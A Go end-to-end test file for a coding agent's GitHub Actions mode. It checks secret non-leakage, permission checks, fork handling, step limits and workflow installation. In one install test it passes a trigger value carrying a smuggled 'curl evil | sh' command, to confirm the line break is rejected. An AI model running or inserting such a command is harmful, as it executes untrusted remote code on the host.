package e2e

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/codeloop/codeloop/internal/fakellm"
	"github.com/codeloop/codeloop/internal/github/fakegh"
	"go.yaml.in/yaml/v3"
)

const (
	ghToken     = "ghs_e2eTokenThatMustNotLeak"
	providerKey = "sk-e2e-provider-key-that-must-not-leak"
)

// ghRepo is a GitHub Actions job's world: a bare origin, the job's
// checkout of it, a fake GitHub API, a fake model configured outside the
// repository (so that it applies whether or not the checkout is trusted),
// and a home directory.
type ghRepo struct {
	t                        *testing.T
	root, origin, work, home string
	cfg, event, export       string
	api                      *fakegh.Server
	apiURL                   string
	model                    *fakellm.Server
	modelAuth                chan string // the Authorization header of each model request
}

func newGHRepo(t *testing.T, script string) *ghRepo {
	t.Helper()
	steps, err := fakellm.Parse(script)
	if err != nil {
		t.Fatal(err)
	}
	root := t.TempDir()
	r := &ghRepo{t: t, root: root, origin: filepath.Join(root, "origin.git"), work: filepath.Join(root, "work"),
		home: filepath.Join(root, "home"), cfg: filepath.Join(root, "codeloop.jsonc"), event: filepath.Join(root, "event.json"),
		export: filepath.Join(root, "session.json")}
	r.model = fakellm.NewServer(steps...)
	r.modelAuth = make(chan string, 64)
	titles := fakellm.NewServer(append(fakellm.Text("t", "A title"), fakellm.Finish("stop", fakellmUsage())...))
	ms := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		select {
		case r.modelAuth <- req.Header.Get("Authorization"):
		default:
		}
		r.model.ServeHTTP(w, req)
	}))
	ts := httptest.NewServer(titles)
	t.Cleanup(func() { ms.Close(); ts.Close() })
	r.api = fakegh.New("octo-org", "hello", ghToken)
	r.api.SetPermission("writer", "write")
	r.api.SetPermission("maintainer", "maintain")
	r.api.SetPermission("reader", "read")
	as := httptest.NewServer(r.api)
	t.Cleanup(as.Close)
	r.apiURL = as.URL
	r.api.SetURL(as.URL)

	cfg := fmt.Sprintf(`{
  "model": "fake/model",
  "small_model": "titles/small",
  "provider": {
    "fake": {"npm": "@ai-sdk/openai-compatible", "options": {"baseURL": "%s/v1", "apiKey": "{env:ANTHROPIC_API_KEY}"},
             "models": {"model": {"name": "Fake", "limit": {"context": 100000, "output": 4000}, "cost": {"input": 3, "output": 15}}}},
    "titles": {"npm": "@ai-sdk/openai-compatible", "options": {"baseURL": "%s/v1", "apiKey": "test"}, "models": {"small": {}}}
  }
}`, ms.URL, ts.URL)
	if err := os.WriteFile(r.cfg, []byte(cfg), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(r.home, 0o755); err != nil {
		t.Fatal(err)
	}
	r.git(root, "init", "-q", "--bare", "-b", "main", r.origin)
	r.git(root, "clone", "-q", r.origin, r.work)
	r.git(r.work, "checkout", "-q", "-b", "main")
	r.write("a.txt", "teh typo\n")
	r.git(r.work, "add", ".")
	r.git(r.work, "commit", "-qm", "start")
	r.git(r.work, "push", "-q", "origin", "main")
	return r
}

func (r *ghRepo) write(name, text string) {
	r.t.Helper()
	if err := os.WriteFile(filepath.Join(r.work, name), []byte(text), 0o644); err != nil {
		r.t.Fatal(err)
	}
}

func (r *ghRepo) env() []string {
	return []string{
		"HOME=" + r.home,
		"PATH=" + os.Getenv("PATH"),
		"OLLAMA_HOST=127.0.0.1:1",
		"XDG_CONFIG_HOME=" + filepath.Join(r.home, ".config"),
		"XDG_DATA_HOME=" + filepath.Join(r.home, ".local/share"),
		"XDG_CACHE_HOME=" + filepath.Join(r.home, ".cache"),
		"XDG_STATE_HOME=" + filepath.Join(r.home, ".local/state"),
		"GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com",
		"CODELOOP_DISABLE_MODELS_FETCH=1",
		"CODELOOP_CONFIG=" + r.cfg,
		"ANTHROPIC_API_KEY=" + providerKey,
		"GITHUB_ACTIONS=true",
		"GITHUB_REPOSITORY=octo-org/hello",
		"GITHUB_API_URL=" + r.apiURL,
		"GITHUB_SERVER_URL=https://github.example",
		"GITHUB_WORKSPACE=" + r.work,
		"GITHUB_RUN_ID=4242",
		"GITHUB_EVENT_PATH=" + r.event,
		"RUNNER_TEMP=" + r.root,
	}
}

func (r *ghRepo) git(dir string, args ...string) string {
	r.t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = r.env()
	out, err := cmd.CombinedOutput()
	if err != nil {
		r.t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// setEvent writes the event file.
func (r *ghRepo) setEvent(name string, e fakegh.Event) {
	r.t.Helper()
	e.Owner, e.Repo = "octo-org", "hello"
	data, err := fakegh.EventFile(name, e)
	if err != nil {
		r.t.Fatal(err)
	}
	if err := os.WriteFile(r.event, data, 0o644); err != nil {
		r.t.Fatal(err)
	}
}

// run runs codeloop github run for the event and returns its output and
// exit status; extraEnv replaces variables.
func (r *ghRepo) run(event string, extraEnv []string, args ...string) (stdout, stderr string, code int) {
	r.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, binary, append([]string{"github", "run", "--export", r.export}, args...)...)
	cmd.Dir = r.work
	cmd.Env = append(append(r.env(), "GITHUB_EVENT_NAME="+event, "GITHUB_TOKEN="+ghToken), extraEnv...)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	code = cmd.ProcessState.ExitCode()
	if err != nil && code < 0 {
		r.t.Fatalf("codeloop github run: %v\n%s", err, errb.String())
	}
	for _, s := range []string{out.String(), errb.String()} {
		if strings.Contains(s, ghToken) || strings.Contains(s, providerKey) {
			r.t.Errorf("the output holds a secret:\n%s", s)
		}
	}
	return out.String(), errb.String(), code
}

// branches lists origin's branches with their commits.
func (r *ghRepo) branches() string {
	return r.git(r.origin, "for-each-ref", "--format=%(refname) %(objectname)", "refs/heads")
}

// noLeaks checks that nothing GitHub or the export received holds a
// secret.
func (r *ghRepo) noLeaks() {
	r.t.Helper()
	for _, c := range r.api.Calls() {
		if bytes.Contains(c.Body, []byte(ghToken)) || bytes.Contains(c.Body, []byte(providerKey)) {
			r.t.Errorf("%s %s sent a secret: %s", c.Method, c.Path, c.Body)
		}
	}
	if b, err := os.ReadFile(r.export); err == nil && (bytes.Contains(b, []byte(ghToken)) || bytes.Contains(b, []byte(providerKey))) {
		r.t.Errorf("the exported session holds a secret")
	}
}

func TestGitHubIssueOpensPull(t *testing.T) {
	r := newGHRepo(t, `
step
call call_1 edit {"filePath":"a.txt","oldString":"teh","newString":"the"}
finish tool-calls input=500 output=20
step
call call_2 bash {"command":"env","description":"Print the environment"}
finish tool-calls input=600 output=20
step
text Fixed the typo in a.txt.
finish stop input=700 output=10
`)
	r.setEvent("issue_comment", fakegh.Event{Number: 7, Title: "Typo in a.txt", IssueBody: "It says teh.", CommentID: 55,
		Actor: "writer", Comment: "/codeloop fix the typo"})
	// Three steps, the last ending the turn: a limit of three is enough.
	stdout, stderr, code := r.run("issue_comment", nil, "--sandbox", "off", "--max-steps", "3")
	if code != 0 {
		t.Fatalf("exit %d\n%s\n%s", code, stdout, stderr)
	}
	branch := "codeloop/issue-7-typo-in-a-txt"
	if got := r.git(r.origin, "show", branch+":a.txt"); got != "the typo" {
		t.Errorf("a.txt on %s = %q", branch, got)
	}
	if got := r.git(r.origin, "show", "main:a.txt"); got != "teh typo" {
		t.Errorf("main changed: %q", got)
	}
	opened := r.api.Opened()
	if len(opened) != 1 {
		t.Fatalf("opened %+v", opened)
	}
	if p := opened[0]; p.HeadRef != branch || p.BaseRef != "main" || !strings.Contains(p.Body, "Closes #7") || !strings.Contains(p.Body, "Fixed the typo") {
		t.Errorf("pull request = %+v", p)
	}
	comments := r.api.Comments()
	if len(comments) != 1 || comments[0].Number != 7 || comments[0].Edits == 0 {
		t.Fatalf("comments = %+v", comments)
	}
	body := comments[0].Body
	for _, want := range []string{"Opened #100", "github.example/octo-org/hello/actions/runs/4242", "cost $0.0", "3 model steps"} {
		if !strings.Contains(body, want) {
			t.Errorf("the progress comment lacks %q:\n%s", want, body)
		}
	}
	if strings.Contains(body, "cost $0.0000") {
		t.Errorf("the progress comment shows no cost:\n%s", body)
	}
	if re := r.api.Reactions(); len(re) != 1 || !strings.HasSuffix(re[0], "/issues/comments/55/reactions eyes") {
		t.Errorf("reactions = %v", re)
	}
	// The model's command saw neither the token nor the provider key.
	reqs := r.model.Requests()
	if len(reqs) != 3 {
		t.Fatalf("%d model requests", len(reqs))
	}
	last := string(reqs[2].Body)
	if !strings.Contains(last, "GITHUB_REPOSITORY") {
		t.Errorf("the bash output did not reach the model: %.500s", last)
	}
	for _, s := range []string{ghToken, providerKey, "GITHUB_TOKEN=", "ANTHROPIC_API_KEY="} {
		if strings.Contains(last, s) {
			t.Errorf("the command's environment held %q", s)
		}
	}
	if _, err := os.Stat(r.export); err != nil {
		t.Errorf("no session export: %v", err)
	}
	// codeloop itself still read the provider's key.
	if auth := <-r.modelAuth; auth != "Bearer "+providerKey {
		t.Errorf("the model request's Authorization = %q", auth)
	}
	r.noLeaks()
}

func TestGitHubReaderGetsNothing(t *testing.T) {
	r := newGHRepo(t, "step\ntext never\nfinish stop\n")
	before := r.branches()
	r.setEvent("issue_comment", fakegh.Event{Number: 7, Title: "Typo", Actor: "reader", Association: "OWNER", Comment: "/codeloop fix the typo"})
	stdout, stderr, code := r.run("issue_comment", nil)
	if code != 0 {
		t.Fatalf("exit %d\n%s\n%s", code, stdout, stderr)
	}
	if !strings.Contains(stderr, "@reader cannot write") {
		t.Errorf("stderr = %q", stderr)
	}
	if r.branches() != before || len(r.api.Opened()) != 0 || len(r.api.Comments()) != 0 || len(r.model.Requests()) != 0 {
		t.Errorf("something was done: branches %s, opened %v, comments %v, %d model requests",
			r.branches(), r.api.Opened(), r.api.Comments(), len(r.model.Requests()))
	}
}

// addFeature pushes a branch "feature" that adds b.txt and declares its
// pull request #12.
func (r *ghRepo) addFeature(headRepo string) string {
	r.git(r.work, "checkout", "-q", "-b", "feature")
	r.write("b.txt", "one\ntwo\nthree\n")
	r.git(r.work, "add", ".")
	r.git(r.work, "commit", "-qm", "add b")
	head := r.git(r.work, "rev-parse", "HEAD")
	if headRepo == "" {
		r.git(r.work, "push", "-q", "origin", "feature")
	}
	r.git(r.work, "push", "-q", "origin", "HEAD:refs/pull/12/head")
	r.git(r.work, "checkout", "-q", "main")
	r.git(r.work, "branch", "-q", "-D", "feature")
	base := r.git(r.work, "rev-parse", "main")
	r.api.AddPull(fakegh.Pull{Number: 12, Title: "Add b", HeadRef: "feature", HeadSHA: head, HeadRepo: headRepo, BaseRef: "main", BaseSHA: base, Author: "writer"})
	return head
}

func TestGitHubReviewCommentCommitsToPull(t *testing.T) {
	r := newGHRepo(t, `
step
call call_1 edit {"filePath":"b.txt","oldString":"two","newString":"2"}
finish tool-calls input=500 output=20
step
text Wrote the number as a digit.
finish stop input=600 output=10
`)
	head := r.addFeature("")
	r.setEvent("pull_request_review_comment", fakegh.Event{Number: 12, Title: "Add b", CommentID: 77, Actor: "maintainer",
		Comment: "/cl use a digit here", HeadRef: "feature", HeadSHA: head, Path: "b.txt", Line: 2, DiffHunk: "@@ -0,0 +1,3 @@\n+one\n+two"})
	stdout, stderr, code := r.run("pull_request_review_comment", nil)
	if code != 0 {
		t.Fatalf("exit %d\n%s\n%s", code, stdout, stderr)
	}
	if got := r.git(r.origin, "show", "feature:b.txt"); got != "one\n2\nthree" {
		t.Errorf("b.txt on feature = %q", got)
	}
	if parent := r.git(r.origin, "rev-parse", "feature^"); parent != head {
		t.Errorf("feature's new commit has parent %s, want %s", parent, head)
	}
	if len(r.api.Opened()) != 0 {
		t.Errorf("opened %v", r.api.Opened())
	}
	if rep := r.api.Replies(); len(rep) != 1 || !strings.Contains(rep[0].Body, "Pushed") {
		t.Errorf("replies = %+v", rep)
	}
	// The review comment's location reached the model.
	if reqs := r.model.Requests(); len(reqs) == 0 || !strings.Contains(string(reqs[0].Body), "b.txt, line 2") {
		t.Errorf("the task lacks the comment's location")
	}
	r.noLeaks()
}

func TestGitHubReviewMode(t *testing.T) {
	r := newGHRepo(t, `
step
call call_1 read {"filePath":"b.txt"}
finish tool-calls input=500 output=20
step
text The change reads well.\n\nb.txt:2: spell the number out consistently\nmissing.txt:4: not in the diff
finish stop input=600 output=10
`)
	head := r.addFeature("")
	before := r.branches()
	r.setEvent("pull_request", fakegh.Event{Action: "opened", Number: 12, Title: "Add b", Actor: "writer", HeadRef: "feature", HeadSHA: head})
	stdout, stderr, code := r.run("pull_request", nil, "--review")
	if code != 0 {
		t.Fatalf("exit %d\n%s\n%s", code, stdout, stderr)
	}
	reviews := r.api.Reviews()
	if len(reviews) != 1 {
		t.Fatalf("reviews = %+v", reviews)
	}
	rv := reviews[0]
	if rv.Event != "COMMENT" || rv.CommitID != head || len(rv.Comments) != 1 {
		t.Fatalf("review = %+v", rv)
	}
	if c := rv.Comments[0]; c.Path != "b.txt" || c.Line != 2 || c.Side != "RIGHT" || !strings.Contains(c.Body, "spell the number") {
		t.Errorf("inline comment = %+v", c)
	}
	if !strings.Contains(rv.Body, "reads well") || !strings.Contains(rv.Body, "missing.txt:4") {
		t.Errorf("review body = %q", rv.Body)
	}
	if r.branches() != before {
		t.Errorf("review mode pushed: %s", r.branches())
	}
}

func TestGitHubPermissionDenied(t *testing.T) {
	outside := filepath.Join(t.TempDir(), "secret.txt")
	if err := os.WriteFile(outside, []byte("outside"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := newGHRepo(t, `
step
call call_1 read {"filePath":"`+outside+`"}
finish tool-calls input=500 output=20
step
text I could not read the file.
finish stop input=600 output=10
`)
	r.setEvent("issue_comment", fakegh.Event{Number: 7, Title: "Read it", CommentID: 55, Actor: "writer", Comment: "/codeloop read the file"})
	stdout, stderr, code := r.run("issue_comment", nil)
	if code != 0 {
		t.Fatalf("exit %d\n%s\n%s", code, stdout, stderr)
	}
	comments := r.api.Comments()
	if len(comments) != 1 {
		t.Fatalf("comments = %+v", comments)
	}
	for _, want := range []string{"denied", "external_directory", "No files were changed"} {
		if !strings.Contains(comments[0].Body, want) {
			t.Errorf("the progress comment lacks %q:\n%s", want, comments[0].Body)
		}
	}
	if len(r.api.Opened()) != 0 || strings.Contains(r.branches(), "codeloop/") {
		t.Errorf("something was pushed: %s", r.branches())
	}
}

func TestGitHubBadInput(t *testing.T) {
	tests := []struct {
		name    string
		setup   func(r *ghRepo)
		env     []string
		wantErr string
	}{
		{"malformed event", func(r *ghRepo) {
			if err := os.WriteFile(r.event, []byte(`{"action": "created", "comment": {`), 0o644); err != nil {
				t.Fatal(err)
			}
		}, nil, "not valid JSON"},
		{"missing token", nil, []string{"GITHUB_TOKEN="}, "no GitHub token"},
		{"server error", func(r *ghRepo) {
			r.api.Fail("GET /repos/{owner}/{repo}/collaborators/{user}/permission", fakegh.Failure{Status: 500, Message: "Server Error"})
		}, nil, "GitHub answered 500"},
		{"rate limit", func(r *ghRepo) {
			r.api.Fail("GET /repos/{owner}/{repo}/collaborators/{user}/permission",
				fakegh.Failure{Status: 403, RetryAfter: "30", Message: "You have exceeded a secondary rate limit"})
		}, nil, "rate limit: retry after 30s"},
		{"pull request refused", func(r *ghRepo) {
			r.api.Fail("POST /repos/{owner}/{repo}/pulls", fakegh.Failure{Status: 500})
		}, nil, "opening the pull request: GitHub answered 500"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := newGHRepo(t, `
step
call call_1 edit {"filePath":"a.txt","oldString":"teh","newString":"the"}
finish tool-calls input=500 output=20
step
text Fixed.
finish stop input=600 output=10
`)
			before := r.branches()
			r.setEvent("issue_comment", fakegh.Event{Number: 7, Title: "Typo", CommentID: 55, Actor: "writer", Comment: "/codeloop fix"})
			if tt.setup != nil {
				tt.setup(r)
			}
			stdout, stderr, code := r.run("issue_comment", tt.env)
			if code != 1 {
				t.Fatalf("exit %d, want 1\n%s\n%s", code, stdout, stderr)
			}
			lines := strings.Split(strings.TrimSpace(stderr), "\n")
			last := lines[len(lines)-1]
			if !strings.HasPrefix(last, "Error: ") || !strings.Contains(last, tt.wantErr) {
				t.Errorf("last line of stderr = %q, want an error with %q\n%s", last, tt.wantErr, stderr)
			}
			if got := r.branches(); got != before {
				t.Errorf("origin changed:\n%s\nwas\n%s", got, before)
			}
			if len(r.api.Opened()) != 0 {
				t.Errorf("opened %v", r.api.Opened())
			}
		})
	}
}

func TestGitHubForkPullGetsADiff(t *testing.T) {
	r := newGHRepo(t, `
step
call call_1 edit {"filePath":"b.txt","oldString":"three","newString":"3"}
finish tool-calls input=500 output=20
step
text Done.
finish stop input=600 output=10
`)
	r.addFeature("stranger/hello-fork")
	before := r.branches()
	r.setEvent("issue_comment", fakegh.Event{Number: 12, IsPR: true, Title: "Add b", CommentID: 56, Actor: "writer", Comment: "/codeloop use digits"})
	stdout, stderr, code := r.run("issue_comment", nil)
	if code != 0 {
		t.Fatalf("exit %d\n%s\n%s", code, stdout, stderr)
	}
	if !strings.Contains(stderr, "trusted project config: false") {
		t.Errorf("the fork's checkout was trusted:\n%s", stderr)
	}
	if r.branches() != before {
		t.Errorf("a fork's pull request led to a push: %s", r.branches())
	}
	comments := r.api.Comments()
	if len(comments) != 1 {
		t.Fatalf("comments = %+v", comments)
	}
	for _, want := range []string{"cannot push", "```diff", "-three", "+3", "fork"} {
		if !strings.Contains(comments[0].Body, want) {
			t.Errorf("the comment lacks %q:\n%s", want, comments[0].Body)
		}
	}
}

func TestGitHubStepLimit(t *testing.T) {
	r := newGHRepo(t, `
step
call call_1 edit {"filePath":"a.txt","oldString":"teh","newString":"the"}
finish tool-calls input=500 output=20
step
call call_2 read {"filePath":"a.txt"}
finish tool-calls input=500 output=20
step
text Done.
finish stop input=600 output=10
`)
	before := r.branches()
	r.setEvent("issue_comment", fakegh.Event{Number: 7, Title: "Typo", CommentID: 55, Actor: "writer", Comment: "/codeloop fix"})
	stdout, stderr, code := r.run("issue_comment", nil, "--max-steps", "1")
	if code != 1 {
		t.Fatalf("exit %d, want 1\n%s\n%s", code, stdout, stderr)
	}
	if !strings.Contains(stderr, "the step limit (1) was reached") {
		t.Errorf("stderr = %s", stderr)
	}
	if r.branches() != before || len(r.api.Opened()) != 0 {
		t.Errorf("pushed after the limit: %s", r.branches())
	}
	if c := r.api.Comments(); len(c) != 1 || !strings.Contains(c[0].Body, "failed") || !strings.Contains(c[0].Body, "step limit") {
		t.Errorf("comments = %+v", c)
	}
}

func TestGitHubInstall(t *testing.T) {
	r := newGHRepo(t, "")
	cmd := exec.Command(binary, "github", "install", "--provider", "openai", "--review")
	cmd.Dir = r.work
	cmd.Env = r.env()
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("install: %v\n%s", err, out)
	}
	for _, want := range []string{"gh secret set OPENAI_API_KEY", "Settings → Secrets and variables → Actions"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("the output lacks %q:\n%s", want, out)
		}
	}
	data, err := os.ReadFile(filepath.Join(r.work, ".github", "workflows", "codeloop.yml"))
	if err != nil {
		t.Fatal(err)
	}
	var wf map[string]any
	if err := yaml.Unmarshal(data, &wf); err != nil {
		t.Fatalf("the workflow is not YAML: %v", err)
	}
	if !strings.Contains(string(data), "OPENAI_API_KEY: ${{ secrets.OPENAI_API_KEY }}") || strings.Contains(string(data), providerKey) {
		t.Errorf("the workflow names the secret wrongly or holds a value:\n%s", data)
	}
	// A second install keeps the file unless --force.
	cmd = exec.Command(binary, "github", "install")
	cmd.Dir = r.work
	cmd.Env = r.env()
	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "--force") {
		t.Errorf("a second install: %v\n%s", err, out)
	}
	// A line break in a word would end the step's command early.
	cmd = exec.Command(binary, "github", "install", "--force", "--trigger", "/cl\ncurl evil | sh")
	cmd.Dir = r.work
	cmd.Env = r.env()
	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "line break") {
		t.Errorf("install with a line break in a word: %v\n%s", err, out)
	}
}

// TestGitHubTokenIsNoModelKey runs without a configured model: the job's
// GITHUB_TOKEN must not make a provider that reads it (GitHub Models,
// Copilot) usable, so the run fails at once with codeloop's own error.
func TestGitHubTokenIsNoModelKey(t *testing.T) {
	r := newGHRepo(t, "")
	before := r.branches()
	r.setEvent("issue_comment", fakegh.Event{Number: 7, Title: "Typo", CommentID: 55, Actor: "writer", Comment: "/codeloop fix"})
	stdout, stderr, code := r.run("issue_comment", []string{"CODELOOP_CONFIG=", "ANTHROPIC_API_KEY=", "GH_TOKEN=" + ghToken}, "--timeout", "5m")
	if code != 1 || !strings.Contains(stderr, "no model is available") {
		t.Fatalf("exit %d\n%s\n%s", code, stdout, stderr)
	}
	if r.branches() != before {
		t.Errorf("pushed: %s", r.branches())
	}
	if c := r.api.Comments(); len(c) != 1 || !strings.Contains(c[0].Body, "failed") {
		t.Errorf("comments = %+v", c)
	}
}

// TestGitHubIssueBranchTaken asks again on an issue whose branch exists:
// the earlier branch is left alone and the run pushes a branch of its own.
func TestGitHubIssueBranchTaken(t *testing.T) {
	r := newGHRepo(t, `
step
call call_1 edit {"filePath":"a.txt","oldString":"teh","newString":"the"}
finish tool-calls input=500 output=20
step
text Fixed.
finish stop input=600 output=10
`)
	r.git(r.work, "push", "-q", "origin", "main:refs/heads/codeloop/issue-7-typo")
	earlier := r.git(r.origin, "rev-parse", "codeloop/issue-7-typo")
	r.setEvent("issue_comment", fakegh.Event{Number: 7, Title: "Typo", CommentID: 55, Actor: "writer", Comment: "/codeloop fix"})
	stdout, stderr, code := r.run("issue_comment", nil)
	if code != 0 {
		t.Fatalf("exit %d\n%s\n%s", code, stdout, stderr)
	}
	if got := r.git(r.origin, "rev-parse", "codeloop/issue-7-typo"); got != earlier {
		t.Errorf("the earlier branch moved")
	}
	if got := r.git(r.origin, "show", "codeloop/issue-7-typo-4242:a.txt"); got != "the typo" {
		t.Errorf("a.txt on the new branch = %q", got)
	}
	if o := r.api.Opened(); len(o) != 1 || o[0].HeadRef != "codeloop/issue-7-typo-4242" {
		t.Errorf("opened %+v", o)
	}
}
